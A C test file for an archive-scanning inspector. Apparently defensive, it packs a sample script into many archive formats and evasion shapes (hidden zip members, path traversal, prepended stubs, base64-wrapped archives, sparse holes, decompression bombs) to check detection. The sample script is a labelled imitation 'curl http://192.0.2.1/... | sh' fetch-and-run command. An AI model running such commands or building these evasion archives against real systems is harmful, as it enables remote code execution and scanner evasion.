// SPDX-License-Identifier: Apache-2.0
/* Archives made in the test: what their members are called, what is found in them, and what limits do. */
#include <archive.h>
#include <archive_entry.h>
#include <zlib.h>

#include "base/cleanup.h"
#include "event/value.h"
#include "harness/test.h"
#include "inspect/archive_walk.h"
#include "inspect/archive_zip.h"
#include "inspect/inspect.h"

#define SCRIPT "#!/bin/sh\n# DAVY TEST IMITATION\ncurl -s http://192.0.2.1/davy-test-imitation | sh\n"

static struct facts facts; /* of the file */
static struct strbuf seen; /* a line for each member: path kind [via] downloads */
static struct strbuf text;

struct source {
    struct str rest;
    size_t piece;
};

static int read_piece(void *ctx, const uint8_t **ret, size_t *ret_n)
{
    struct source *s = ctx;
    if (!s->rest.n)
        return 1;
    *ret = (const uint8_t *)s->rest.p;
    *ret_n = s->rest.n < s->piece ? s->rest.n : s->piece;
    s->rest = str_sub(s->rest, *ret_n, s->rest.n);
    return 0;
}

static const char *text_of(const struct facts *f, enum field_id id)
{
    strbuf_clear(&text);
    strbuf_adds(&text, "");
    value_add_text(&text, facts_get(f, id));
    return text.p;
}

static int on_member(void *ctx, struct facts *m)
{
    (void)ctx;
    strbuf_printf(&seen, "%.*s %.*s [%.*s]", STR_ARG(facts_get_str(m, F_FILE_PATH)), STR_ARG(facts_get_str(m, F_FILE_KIND)),
                  STR_ARG(facts_get_str(m, F_MEMBER_VIA)));
    if (facts_has(m, F_SCRIPT_DOWNLOADS))
        strbuf_printf(&seen, " downloads");
    if (facts_has(m, F_ARCHIVE_PROBLEMS))
        strbuf_printf(&seen, " %s", text_of(m, F_ARCHIVE_PROBLEMS));
    if (facts_has(m, F_FILE_HOLES) && facts_get(m, F_FILE_HOLES)->u == 200'000'000'000 - strlen(SCRIPT) && !facts_has(m, F_FILE_SHA256))
        strbuf_printf(&seen, " holes");
    strbuf_addc(&seen, '\n');
    return 0;
}

/* Looks at the file with a window of that size and source->member set; 0: the usual window. */
static void look_at(const char *path, struct str content, size_t window)
{
    static const char *const only[] = {"elf", "script", "persist", "unwrap", NULL};
    _cleanup_(inspector_freep) struct inspector *in = NULL;
    struct error err = ERROR_NULL;
    CHECK_INT(inspector_new(&(struct inspect_options){.only = only, .window_bytes = window}, &in, &err), 0);
    facts_done(&facts);
    facts_init(&facts);
    facts_reset(&facts, EVENT_FILE, 0);
    facts_str(&facts, F_FILE_PATH, str_from(path));
    facts_str(&facts, F_LAYER_STATE, STR("deleted"));
    strbuf_clear(&seen);
    strbuf_adds(&seen, "");
    struct source source = {content, 1000};
    CHECK_INT(inspector_file(in, &(struct content_source){&source, read_piece, on_member}, &facts), 0);
}

static void look(const char *path, struct str content)
{
    look_at(path, content, 0);
}

static const char *list(enum field_id id)
{
    return text_of(&facts, id);
}

struct file {
    const char *name;
    struct str data;
};

/* An archive of some files by libarchive's writer. */
static void pack_as(struct strbuf *out, int format, int filter, const struct file *files, size_t n)
{
    enum { ROOM = 4 << 20 };
    size_t used = 0;
    struct archive *a = archive_write_new();
    /* the one format that the library's writer has no number for */
    CHECK_INT(format == ARCHIVE_FORMAT_AR_GNU ? archive_write_set_format_ar_svr4(a) : archive_write_set_format(a, format),
              ARCHIVE_OK);
    if (filter != ARCHIVE_FILTER_NONE)
        CHECK_INT(archive_write_add_filter(a, filter), ARCHIVE_OK);
    archive_write_set_bytes_in_last_block(a, 1);
    strbuf_clear(out);
    strbuf_reserve(out, ROOM);
    CHECK_INT(archive_write_open_memory(a, out->p, ROOM, &used), ARCHIVE_OK);
    for (size_t i = 0; i < n; i++) {
        struct archive_entry *e = archive_entry_new();
        archive_entry_set_pathname(e, files[i].name);
        archive_entry_set_filetype(e, AE_IFREG);
        archive_entry_set_perm(e, 0755);
        archive_entry_set_size(e, (la_int64_t)files[i].data.n);
        CHECK_INT(archive_write_header(a, e), ARCHIVE_OK);
        CHECK_INT(archive_write_data(a, files[i].data.p, files[i].data.n), (la_ssize_t)files[i].data.n);
        archive_entry_free(e);
    }
    CHECK_INT(archive_write_close(a), ARCHIVE_OK);
    archive_write_free(a);
    out->n = used;
}

static void pack(struct strbuf *out, int format, int filter, const char *name, struct str data)
{
    pack_as(out, format, filter, &(struct file){name, data}, 1);
}

static void zip(struct strbuf *out, const char *name, struct str data)
{
    pack(out, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, name, data);
}

static const struct form {
    int format, filter;
    const char *path, *member, *via, *kind;
} FORMS[] = {
    {ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, "/srv/a.jar", "q/x", "zip", "zip"},
    {ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE, "/srv/a.tar", "q/x", "tar", "tar"},
    {ARCHIVE_FORMAT_TAR_PAX_INTERCHANGE, ARCHIVE_FILTER_GZIP, "/srv/a.tgz", "q/x", "tar+gzip", "gzip"},
    {ARCHIVE_FORMAT_TAR_GNUTAR, ARCHIVE_FILTER_XZ, "/srv/a.tar.xz", "q/x", "tar+xz", "xz"},
    {ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_BZIP2, "/srv/a.tar.bz2", "q/x", "tar+bzip2", "bzip2"},
    {ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_ZSTD, "/srv/a.tar.zst", "q/x", "tar+zstd", "zstd"},
    {ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_LZ4, "/srv/a.tar.lz4", "q/x", "tar+lz4", "lz4"},
    {ARCHIVE_FORMAT_AR_GNU, ARCHIVE_FILTER_NONE, "/srv/a.a", "x", "ar", "ar"},
    {ARCHIVE_FORMAT_CPIO_SVR4_NOCRC, ARCHIVE_FILTER_NONE, "/srv/a.cpio", "q/x", "cpio", "cpio"},
    {ARCHIVE_FORMAT_CPIO_POSIX, ARCHIVE_FILTER_NONE, "/srv/a.cpio", "q/x", "cpio", "cpio"},
    {ARCHIVE_FORMAT_7ZIP, ARCHIVE_FILTER_NONE, "/srv/a.7z", "q/x", "7z", "7z"},
    {ARCHIVE_FORMAT_ISO9660, ARCHIVE_FILTER_NONE, "/srv/a.iso", "q/x", "iso", "iso"},
    {ARCHIVE_FORMAT_CPIO_SVR4_NOCRC, ARCHIVE_FILTER_GZIP, "/boot/initrd.img", "q/x", "cpio+gzip", "gzip"},
    {ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_GZIP, "/srv/x.gz", "x", "gzip", "gzip"},
    {ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_XZ, "/srv/x.xz", "x", "xz", "xz"},
    {ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_BZIP2, "/srv/x.bz2", "x", "bzip2", "bzip2"},
    {ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_ZSTD, "/srv/x.zst", "x", "zstd", "zstd"},
    {ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_LZ4, "/srv/x.lz4", "x", "lz4", "lz4"},
};

static void tar_header(struct strbuf *t, char type, const char *size)
{
    char h[512] = {};
    unsigned sum = 0;
    memcpy(h, type == 'x' ? "pax" : "disk", 4);
    memcpy(h + 100, "0000644", 8);
    memcpy(h + 124, size, 12);
    memset(h + 148, ' ', 8);
    h[156] = type;
    memcpy(h + 257, "ustar\00000", 8);
    for (size_t i = 0; i < sizeof(h); i++)
        sum += (uint8_t)h[i];
    (void)snprintf(h + 148, 8, "%06o", sum);
    strbuf_add(t, str_n(h, sizeof(h)));
}

/* The script behind 100 GB that nobody stored, and as much behind it. */
TEST(long_holes_of_a_member)
{
    _cleanup_(strbuf_done) struct strbuf t = {};
    const char pax[] = "22 GNU.sparse.major=1\n22 GNU.sparse.minor=0\n24 GNU.sparse.name=disk\n36 GNU.sparse.realsize=200000000000\n";
    char map[512] = {}, size[13];
    (void)snprintf(map, sizeof(map), "1\n100000000000\n%zu\n", strlen(SCRIPT));
    tar_header(&t, 'x', "00000000150");
    strbuf_add(&t, str_n(pax, sizeof(pax) - 1));
    strbuf_pad(&t, 0, 512 - (sizeof(pax) - 1));
    (void)snprintf(size, sizeof(size), "%011zo", 512 + strlen(SCRIPT));
    tar_header(&t, '0', size);
    strbuf_add(&t, str_n(map, sizeof(map)));
    strbuf_adds(&t, SCRIPT);
    strbuf_pad(&t, 0, 512 - strlen(SCRIPT) + 1024);
    CHECK_INT(sizeof(pax) - 1, 0150);
    look("/srv/a.tar", strbuf_str(&t));
    CHECK_CSTR(seen.p, "/srv/a.tar!disk script [tar] downloads holes\n");
    CHECK(!facts_has(&facts, F_ARCHIVE_PROBLEMS) && !facts_has(&facts, F_ARCHIVE_REFUSED));
    CHECK_INT(facts_get(&facts, F_ARCHIVE_BYTES)->u, strlen(SCRIPT));
}

TEST(a_member_of_every_format_is_an_event)
{
    _cleanup_(strbuf_done) struct strbuf b = {}, want = {};
    for (size_t i = 0; i < ARRAY_SIZE(FORMS); i++) {
        const struct form *f = &FORMS[i];
        pack(&b, f->format, f->filter, f->member, STR(SCRIPT));
        look(f->path, strbuf_str(&b));
        strbuf_clear(&want);
        strbuf_printf(&want, "%s!%s script [%s] downloads\n", f->path, f->member, f->via);
        CHECK_STR(strbuf_str(&seen), want.p);
        CHECK_CSTR(list(F_ARCHIVE_KIND), f->via);
        CHECK_CSTR(list(F_FILE_KIND), f->kind);
        CHECK_INT(facts_get(&facts, F_ARCHIVE_MEMBERS)->u, 1);
        CHECK_INT(facts_get(&facts, F_ARCHIVE_BYTES)->u, strlen(SCRIPT));
        CHECK(!facts_has(&facts, F_ARCHIVE_PROBLEMS));
        CHECK(!facts_has(&facts, F_ARCHIVE_REFUSED));
        CHECK(!facts_has(&facts, F_SCRIPT_DOWNLOADS));
    }
}

/* Each format within each other one. */
TEST(formats_within_formats)
{
    _cleanup_(strbuf_done) struct strbuf inner = {}, outer = {}, want = {};
    for (size_t i = 0; i < ARRAY_SIZE(FORMS); i++)
        for (size_t k = 0; k < ARRAY_SIZE(FORMS); k++) {
            const struct form *f = &FORMS[i], *g = &FORMS[k];
            /* An archive that is compressed in one more step is that compressed archive: no name between. */
            if (f->format == ARCHIVE_FORMAT_RAW && g->filter == ARCHIVE_FILTER_NONE && g->format != ARCHIVE_FORMAT_ZIP &&
                g->format != ARCHIVE_FORMAT_AR_GNU)
                continue;
            pack(&inner, g->format, g->filter, g->member, STR(SCRIPT));
            pack(&outer, f->format, f->filter, f->format == ARCHIVE_FORMAT_RAW ? f->member : "in", strbuf_str(&inner));
            look(f->path, strbuf_str(&outer));
            strbuf_clear(&want);
            bool raw = g->format == ARCHIVE_FORMAT_RAW; /* named after the file it is packed in */
            const char *in = f->format == ARCHIVE_FORMAT_RAW ? f->member : "in";
            strbuf_printf(&want, "%s!%s!%s script [%s>%s] downloads\n%s!%s %s [%s]\n", f->path, in, raw ? in : g->member,
                          f->via, g->via, f->path, in, g->kind, f->via);
            CHECK_STR(strbuf_str(&seen), want.p);
        }
}

static struct strbuf field_text;
static enum field_id wanted;

static int on_field(void *ctx, struct facts *m)
{
    (void)ctx;
    value_add_text(&field_text, facts_get(m, wanted));
    return 0;
}

TEST(fields_of_a_member)
{
    static const struct {
        enum field_id id;
        const char *want;
    } CASES[] = {
        {F_FILE_NAME, ".Job.SH"},        {F_FILE_EXT, "sh"},
        {F_FILE_DIR, "/srv/b.tar!etc/cron.d"}, {F_FILE_IS_HIDDEN, "true"},
        {F_FILE_CONTAINER, "/srv/b.tar"}, {F_MEMBER_PATH, "etc/cron.d/.Job.SH"},
        {F_MEMBER_DEPTH, "1"},           {F_FILE_IS_EXEC, "true"},
        {F_FILE_MODE, "493"},            {F_FILE_SIZE, "18"},
        {F_FILE_TYPE, "regular"},        {F_LAYER_STATE, "deleted"},
        {F_PERSIST_KIND, "cron"},        {F_PERSIST_COMMANDS, "(/x)"},
    };
    _cleanup_(strbuf_done) struct strbuf b = {};
    _cleanup_(inspector_freep) struct inspector *in = NULL;
    _cleanup_(facts_done) struct facts f = {};
    CHECK_INT(inspector_new(&(struct inspect_options){}, &in, NULL), 0);
    facts_init(&f);
    pack(&b, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE, "./etc/cron.d/.Job.SH", STR("* * * * * root /x\n"));
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        facts_reset(&f, EVENT_FILE, 0);
        facts_str(&f, F_FILE_PATH, STR("/srv/b.tar"));
        facts_str(&f, F_LAYER_STATE, STR("deleted"));
        strbuf_clear(&field_text);
        strbuf_adds(&field_text, "");
        wanted = CASES[i].id;
        struct source source = {strbuf_str(&b), 1000};
        CHECK_INT(inspector_file(in, &(struct content_source){&source, read_piece, on_field}, &f), 0);
        CHECK_CSTR(field_text.p, CASES[i].want);
    }
    CHECK(!facts_has(&f, F_FILE_CONTAINER) && !facts_has(&f, F_MEMBER_PATH) && !facts_has(&f, F_PERSIST_KIND));
}

/* A zip written by hand, without compression: what writers would refuse to write. */
struct hand {
    struct strbuf bytes, directory;
    unsigned n;
};

static void hand_done(struct hand *h)
{
    strbuf_done(&h->bytes);
    strbuf_done(&h->directory);
}

static void le(struct strbuf *b, uint64_t v, int n)
{
    for (; n > 0; n--, v >>= 8)
        strbuf_addc(b, (char)v);
}

static uint32_t crc(struct str s)
{
    uint32_t c = ~0u;
    for (size_t i = 0; i < s.n; i++) {
        c ^= (uint8_t)s.p[i];
        for (int k = 0; k < 8; k++)
            c = c >> 1 ^ (c & 1 ? 0xedb88320u : 0);
    }
    return ~c;
}

/* Where it begins. */
static size_t hand_local(struct hand *h, const char *name, struct str data)
{
    size_t at = h->bytes.n;
    strbuf_add(&h->bytes, STR("PK\3\4\24\0\0\0\0\0\0\0\0\0"));
    le(&h->bytes, crc(data), 4);
    le(&h->bytes, data.n, 4);
    le(&h->bytes, data.n, 4);
    le(&h->bytes, strlen(name), 2);
    le(&h->bytes, 0, 2);
    strbuf_adds(&h->bytes, name);
    strbuf_add(&h->bytes, data);
    return at;
}

static void hand_central(struct hand *h, size_t at, const char *name, struct str data, unsigned flags)
{
    strbuf_add(&h->directory, STR("PK\1\2\24\0\24\0"));
    le(&h->directory, flags, 2);
    strbuf_add(&h->directory, STR("\0\0\0\0\0\0"));
    le(&h->directory, crc(data), 4);
    le(&h->directory, data.n, 4);
    le(&h->directory, data.n, 4);
    le(&h->directory, strlen(name), 2);
    strbuf_add(&h->directory, STR("\0\0\0\0\0\0\0\0\0\0\0\0"));
    le(&h->directory, at, 4);
    strbuf_adds(&h->directory, name);
    h->n++;
}

static struct str hand_end(struct hand *h, size_t prefix, const char *comment)
{
    size_t at = h->bytes.n - prefix;
    strbuf_add(&h->bytes, strbuf_str(&h->directory));
    strbuf_add(&h->bytes, STR("PK\5\6\0\0\0\0"));
    le(&h->bytes, h->n, 2);
    le(&h->bytes, h->n, 2);
    le(&h->bytes, h->directory.n, 4);
    le(&h->bytes, at, 4);
    le(&h->bytes, strlen(comment), 2);
    strbuf_adds(&h->bytes, comment);
    return strbuf_str(&h->bytes);
}

static void hand_add(struct hand *h, const char *name, struct str data)
{
    hand_central(h, hand_local(h, name, data), name, data, 0);
}

TEST(a_zip_by_hand_is_whole)
{
    _cleanup_(hand_done) struct hand h = {};
    hand_add(&h, "a", STR(SCRIPT));
    hand_add(&h, "b", STR("x\n"));
    look("/z", hand_end(&h, 0, "a comment"));
    CHECK_CSTR(seen.p, "/z!a script [zip] downloads\n/z!b text [zip]\n");
    CHECK(!facts_has(&facts, F_ARCHIVE_PROBLEMS));
}

TEST(a_comment_longer_than_readers_search)
{
    _cleanup_(hand_done) struct hand h = {};
    _cleanup_(strbuf_done) struct strbuf comment = {};
    strbuf_pad(&comment, 'c', 65000);
    hand_add(&h, "a", STR(SCRIPT));
    look("/z", hand_end(&h, 0, comment.p));
    CHECK_CSTR(seen.p, "/z!a script [zip] downloads\n");
}

TEST(two_members_of_one_name)
{
    _cleanup_(hand_done) struct hand h = {};
    hand_add(&h, "a", STR("harmless\n"));
    hand_add(&h, "a", STR(SCRIPT));
    look("/z", hand_end(&h, 0, ""));
    CHECK_CSTR(seen.p, "/z!a text [zip]\n/z!a script [zip] downloads\n");
    CHECK_CSTR(list(F_ARCHIVE_PROBLEMS), "(duplicate)");
}

TEST(directory_and_header_name_it_differently)
{
    _cleanup_(hand_done) struct hand h = {};
    hand_central(&h, hand_local(&h, "readme", STR(SCRIPT)), "run.sh", STR(SCRIPT), 0);
    look("/z", hand_end(&h, 0, ""));
    CHECK_CSTR(list(F_ARCHIVE_PROBLEMS), "(local-differs)");
    CHECK(str_has(strbuf_str(&seen), STR("script [zip] downloads")));
}

TEST(a_member_that_the_directory_hides)
{
    _cleanup_(hand_done) struct hand h = {};
    hand_add(&h, "a", STR("x\n"));
    (void)hand_local(&h, "hidden", STR(SCRIPT));
    hand_add(&h, "b", STR("y\n"));
    look("/z", hand_end(&h, 0, ""));
    CHECK_CSTR(seen.p, "/z!a text [zip]\n/z!b text [zip]\n/z!hidden script [zip] downloads\n");
    CHECK(str_has(str_from(list(F_ARCHIVE_PROBLEMS)), STR("hidden-member")));
}

TEST(members_that_share_bytes)
{
    _cleanup_(hand_done) struct hand h = {};
    _cleanup_(strbuf_done) struct strbuf inner = {};
    size_t at = hand_local(&h, "inner", STR(SCRIPT));
    strbuf_add(&inner, str_sub(strbuf_str(&h.bytes), at, h.bytes.n));
    h.bytes.n = at;
    size_t outer = hand_local(&h, "outer", strbuf_str(&inner));
    hand_central(&h, outer, "outer", strbuf_str(&inner), 0);
    hand_central(&h, outer + 30 + strlen("outer"), "inner", STR(SCRIPT), 0);
    look("/z", hand_end(&h, 0, ""));
    CHECK_CSTR(list(F_ARCHIVE_PROBLEMS), "(overlap)");
    CHECK(str_has(strbuf_str(&seen), STR("/z!inner script [zip] downloads")));
}

TEST(a_stub_in_front_and_a_tail_behind)
{
    _cleanup_(hand_done) struct hand h = {};
    strbuf_adds(&h.bytes, "#!/bin/sh\nunzip -q \"$0\"; exit\n");
    size_t prefix = h.bytes.n;
    size_t at = hand_local(&h, "a", STR(SCRIPT)) - prefix;
    hand_central(&h, at, "a", STR(SCRIPT), 0);
    (void)hand_end(&h, prefix, "");
    look("/z.sh", strbuf_str(&h.bytes));
    CHECK_CSTR(seen.p, "/z.sh!a script [zip] downloads\n");
    CHECK_CSTR(list(F_ARCHIVE_PROBLEMS), "(prepended-data)");
    CHECK_CSTR(list(F_FILE_KIND), "script");
    strbuf_adds(&h.bytes, "and more behind");
    look("/z.sh", strbuf_str(&h.bytes));
    CHECK_CSTR(seen.p, "/z.sh!a script [zip] downloads\n");
    CHECK_CSTR(list(F_ARCHIVE_PROBLEMS), "(prepended-data,trailing-data)");
}

TEST(encrypted_members_are_counted)
{
    _cleanup_(hand_done) struct hand h = {};
    size_t at = hand_local(&h, "secret", STR(SCRIPT));
    h.bytes.p[at + 6] |= 1;
    hand_central(&h, at, "secret", STR(SCRIPT), 1);
    hand_add(&h, "open", STR(SCRIPT));
    look("/z", hand_end(&h, 0, ""));
    CHECK_CSTR(seen.p, "/z!open script [zip] downloads\n");
    CHECK_INT(facts_get(&facts, F_ARCHIVE_ENCRYPTED)->u, 1);
    CHECK_INT(facts_get(&facts, F_ARCHIVE_REFUSED)->u, 1);
    CHECK_INT(facts_get(&facts, F_ARCHIVE_MEMBERS)->u, 2);
}

TEST(names_that_lead_elsewhere)
{
    _cleanup_(hand_done) struct hand h = {};
    hand_add(&h, "../../etc/cron.d/x", STR("x\n"));
    hand_add(&h, "/etc/passwd", STR("x\n"));
    hand_add(&h, "..a/b..", STR("x\n"));
    look("/z", hand_end(&h, 0, ""));
    CHECK_CSTR(seen.p, "/z!../../etc/cron.d/x text [zip]\n/z!etc/passwd text [zip]\n/z!..a/b.. text [zip]\n");
    CHECK_CSTR(list(F_ARCHIVE_PROBLEMS), "(path-traversal,absolute-path)");
}

TEST(a_zip_without_its_end_is_read_by_its_headers)
{
    _cleanup_(hand_done) struct hand h = {};
    hand_add(&h, "a", STR(SCRIPT));
    hand_add(&h, "b", STR(SCRIPT));
    look("/z", strbuf_str(&h.bytes));
    CHECK(str_starts(strbuf_str(&seen), STR("/z!a script [zip] downloads\n/z!b script [zip] downloads\n")));
    CHECK(str_has(str_from(list(F_ARCHIVE_PROBLEMS)), STR("no-directory")));
}

TEST(depth_ends_somewhere_and_says_so)
{
    _cleanup_(strbuf_done) struct strbuf b = {}, in = {};
    strbuf_adds(&in, SCRIPT);
    for (int i = 0; i < 12; i++) {
        zip(&b, "z", strbuf_str(&in));
        strbuf_clear(&in);
        strbuf_add(&in, strbuf_str(&b));
    }
    look("/z", strbuf_str(&in));
    CHECK(str_starts(strbuf_str(&seen), STR("/z!z!z!z!z!z!z!z!z zip [zip>zip>zip>zip>zip>zip>zip>zip] (depth)\n")));
    CHECK(!str_has(strbuf_str(&seen), STR("downloads")));
}

/* The shape of 42.zip: each level holds the same archive many times; only one of each is unpacked. */
TEST(a_nest_of_equal_archives_costs_one)
{
    _cleanup_(strbuf_done) struct strbuf b = {}, in = {};
    strbuf_adds(&in, SCRIPT);
    for (int i = 0; i < 6; i++) {
        struct file files[16];
        char names[16][8];
        for (int k = 0; k < 16; k++) {
            snprintf(names[k], sizeof(names[k]), "z%d", k);
            files[k] = (struct file){names[k], strbuf_str(&in)};
        }
        pack_as(&b, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, files, 16);
        strbuf_clear(&in);
        strbuf_add(&in, strbuf_str(&b));
    }
    look("/42.zip", strbuf_str(&in));
    size_t lines = 0;
    for (size_t i = 0; i < seen.n; i++)
        lines += seen.p[i] == '\n';
    CHECK_INT(lines, 6 * 16);
    CHECK(str_has(strbuf_str(&seen), STR(" (repeated)")));
    CHECK(str_has(strbuf_str(&seen), STR("downloads")));
}

/* A gzip of zeros, again and again: over the ratio it ends, and says why. */
TEST(a_bomb_ends)
{
    _cleanup_(strbuf_done) struct strbuf b = {}, zeros = {}, all = {};
    strbuf_pad(&zeros, 0, 4 << 20);
    pack(&b, ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_GZIP, "x", strbuf_str(&zeros));
    for (int i = 0; i < 40; i++)
        strbuf_add(&all, strbuf_str(&b));
    look("/bomb.gz", strbuf_str(&all));
    CHECK_CSTR(list(F_ARCHIVE_PROBLEMS), "(bomb)");
    CHECK_INT(facts_get(&facts, F_ARCHIVE_REFUSED)->u, 1);
    CHECK(facts_get(&facts, F_ARCHIVE_BYTES)->u < ARCHIVE_FREE_BYTES + (8 << 20));
}

TEST(what_streams_by_is_looked_at_too)
{
    _cleanup_(strbuf_done) struct strbuf b = {}, noise = {};
    uint32_t v = 1;
    for (int i = 0; i < 100000; i++)
        strbuf_addc(&noise, (char)((v = v * 1664525 + 1013904223) >> 24));
    for (size_t i = 0; i < ARRAY_SIZE(FORMS); i++) {
        const struct form *f = &FORMS[i];
        if (f->format == ARCHIVE_FORMAT_RAW)
            continue;
        const size_t window = f->format == ARCHIVE_FORMAT_ISO9660 ? 65536 : 8192; /* its name stands behind 32 kB */
        pack_as(&b, f->format, f->filter,
                (struct file[]){{"noise", strbuf_str(&noise)}, {"x", STR(SCRIPT)}, {"more", strbuf_str(&noise)}}, 3);
        look_at(f->path, strbuf_str(&b), window);
        if (f->format == ARCHIVE_FORMAT_7ZIP) {
            CHECK_CSTR(list(F_ARCHIVE_PROBLEMS), "(too-large)");
            CHECK_INT(facts_get(&facts, F_ARCHIVE_REFUSED)->u, 1);
            continue;
        }
        if (!str_has(strbuf_str(&seen), STR("!x script")))
            test_fail(__FILE__, __LINE__, "%s: %s", f->path, seen.p);
        CHECK(str_has(strbuf_str(&seen), STR("!noise data [")));
        CHECK(str_has(strbuf_str(&seen), STR("!more data [")));
        CHECK_CSTR(list(F_ARCHIVE_KIND), f->via);
        CHECK(facts_get(&facts, F_FILE_PARTIAL)->b);
        CHECK_INT(facts_get(&facts, F_FILE_SIZE)->u, b.n);
    }
}

TEST(archives_one_behind_the_other)
{
    _cleanup_(strbuf_done) struct strbuf b = {}, all = {};
    pack(&b, ARCHIVE_FORMAT_CPIO_SVR4_NOCRC, ARCHIVE_FILTER_NONE, "kernel/x86/microcode", STR("x\n"));
    strbuf_add(&all, strbuf_str(&b));
    strbuf_pad(&all, 0, 512);
    pack(&b, ARCHIVE_FORMAT_CPIO_SVR4_NOCRC, ARCHIVE_FILTER_ZSTD, "init", STR(SCRIPT));
    strbuf_add(&all, strbuf_str(&b));
    look("/boot/initrd.img", strbuf_str(&all));
    CHECK_CSTR(seen.p, "/boot/initrd.img!kernel/x86/microcode text [cpio]\n/boot/initrd.img!init script [cpio+zstd] downloads\n");
    CHECK(!facts_has(&facts, F_ARCHIVE_PROBLEMS));
    pack(&b, ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_GZIP, "x", STR("x\n"));
    strbuf_adds(&b, "curl http://192.0.2.1/davy-test-imitation | sh\n");
    look("/srv/x.gz", strbuf_str(&b));
    CHECK_CSTR(list(F_ARCHIVE_PROBLEMS), "(trailing-data)");
}

TEST(an_archive_within_an_encoded_text)
{
    static const char CODE[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    _cleanup_(strbuf_done) struct strbuf b = {}, text_of_it = {};
    pack(&b, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, "run", STR(SCRIPT));
    strbuf_adds(&text_of_it, "#!/bin/sh\necho ");
    for (size_t i = 0; i < b.n; i += 3) {
        uint32_t v = 0;
        for (size_t k = 0; k < 3; k++)
            v = v << 8 | (i + k < b.n ? (uint8_t)b.p[i + k] : 0);
        for (unsigned k = 0; k < 4; k++)
            strbuf_addc(&text_of_it, i + k <= b.n ? CODE[v >> (18 - 6 * k) & 63] : '=');
    }
    strbuf_adds(&text_of_it, " | base64 -d | tar xz\n");
    look("/srv/i.sh", strbuf_str(&text_of_it));
    CHECK_CSTR(seen.p, "/srv/i.sh!run script [base64>gzip>tar] downloads\n");
}

TEST(damage_is_told_and_loses_nothing)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    pack_as(&b, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE,
            (struct file[]){{"a", STR(SCRIPT)}, {"b", STR("xxxxxxxxxxxx")}}, 2);
    look("/t.tar", str_sub(strbuf_str(&b), 0, 1024 + 512 + 4));
    CHECK(str_starts(strbuf_str(&seen), STR("/t.tar!a script [tar] downloads\n")));
    CHECK_CSTR(list(F_ARCHIVE_PROBLEMS), "(corrupt)");
}

static void add_le(struct strbuf *b, uint64_t v, unsigned bytes)
{
    for (unsigned i = 0; i < bytes; i++)
        strbuf_addc(b, (char)(v >> 8 * i));
}

/* RAR 4, as no free program writes it: a mark, the archive's block, a file that is stored as it is, the end. */
TEST(rar)
{
    _cleanup_(strbuf_done) struct strbuf all = {}, h = {};
    const struct str script = STR(SCRIPT);
    strbuf_add(&all, str_n("Rar!\x1a\7\0\xcf\x90\x73\0\0\x0d\0\0\0\0\0\0\0", 20));
    add_le(&h, 0x74, 1);
    add_le(&h, 0x8000, 2);
    add_le(&h, 32 + 3, 2);
    add_le(&h, script.n, 4);
    add_le(&h, script.n, 4);
    add_le(&h, 3, 1); /* Unix */
    add_le(&h, (uint32_t)crc32(0, (const uint8_t *)script.p, (unsigned)script.n), 4);
    add_le(&h, 0x5a000000, 4);
    add_le(&h, 20, 1);
    add_le(&h, 0x30, 1);
    add_le(&h, 3, 2);
    add_le(&h, 0100755, 4);
    strbuf_adds(&h, "q/x");
    add_le(&all, crc32(0, (const uint8_t *)h.p, (unsigned)h.n) & 0xffff, 2);
    strbuf_add(&all, strbuf_str(&h));
    strbuf_add(&all, script);
    strbuf_add(&all, str_n("\xc4\x3d\x7b\0\x40\7\0", 7));
    look("/srv/a.rar", strbuf_str(&all));
    CHECK_CSTR(seen.p, "/srv/a.rar!q/x script [rar] downloads\n");
    CHECK_CSTR(list(F_ARCHIVE_KIND), "rar");
    CHECK(!facts_has(&facts, F_ARCHIVE_PROBLEMS));
    look("/srv/a.rar", str_sub(strbuf_str(&all), 0, all.n - 20));
    CHECK_CSTR(list(F_ARCHIVE_PROBLEMS), "(corrupt)");
}

/* An asar archive: its directory as given, then the bytes. */
static void asar(struct strbuf *b, const char *directory, struct str bytes)
{
    uint32_t n = (uint32_t)strlen(directory), padded = (n + 3) & ~3u, head[] = {htole32(4), htole32(padded + 8), htole32(padded + 4), htole32(n)};
    strbuf_clear(b);
    strbuf_add(b, str_n((const char *)head, sizeof(head)));
    strbuf_adds(b, directory);
    strbuf_pad(b, 0, padded - n);
    strbuf_add(b, bytes);
}

/* Applications of Electron. */
TEST(an_asar_archive)
{
    _cleanup_(strbuf_done) struct strbuf b = {}, directory = {}, bytes = {};
    strbuf_printf(&bytes, "{}%s", SCRIPT);
    strbuf_printf(&directory,
                  "{\"files\":{\"bin\":{\"files\":{\"x\":{\"size\":%zu,\"offset\":\"2\",\"executable\":true,\"integrity\":{\"blocks\":[\"0\"]}}}},"
                  "\"package.json\":{\"size\":2,\"offset\":\"0\"},\"empty\":{\"size\":0,\"offset\":\"0\"},"
                  "\"native.node\":{\"size\":9,\"unpacked\":true},\"link\":{\"link\":\"bin/x\"}}}",
                  strlen(SCRIPT));
    asar(&b, directory.p, strbuf_str(&bytes));
    for (int i = 0; i < 2; i++) {
        look_at("/opt/app.asar", strbuf_str(&b), i ? 1024 : 0);
        CHECK_CSTR(seen.p, "/opt/app.asar!empty empty [asar]\n/opt/app.asar!package.json json [asar]\n/opt/app.asar!bin/x script [asar] downloads\n");
        CHECK_CSTR(list(F_ARCHIVE_KIND), "asar");
        CHECK_CSTR(list(F_FILE_KIND), "asar");
